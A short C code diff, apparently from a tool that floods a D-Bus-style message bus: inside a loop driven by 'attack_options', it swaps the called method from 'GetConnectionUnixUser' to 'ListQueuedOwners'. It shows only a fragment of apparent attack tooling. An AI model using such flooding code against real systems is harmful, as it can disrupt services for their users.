@@ -42,7 +42,7 @@ void waiting_tail(void *argument)
     buffer_string(&body, BUS);
     for (int i = 0; i < attack_options.count; i++) {
         out.size = 0;
-        put_driver_call(&out, "GetConnectionUnixUser", "s", &body);
+        put_driver_call(&out, "ListQueuedOwners", "s", &body);
         buffer_put(&out, waits.data, waits.size);
         buffer_put(&out, passes.data, passes.size);
         attack_pour(&sender, &out);
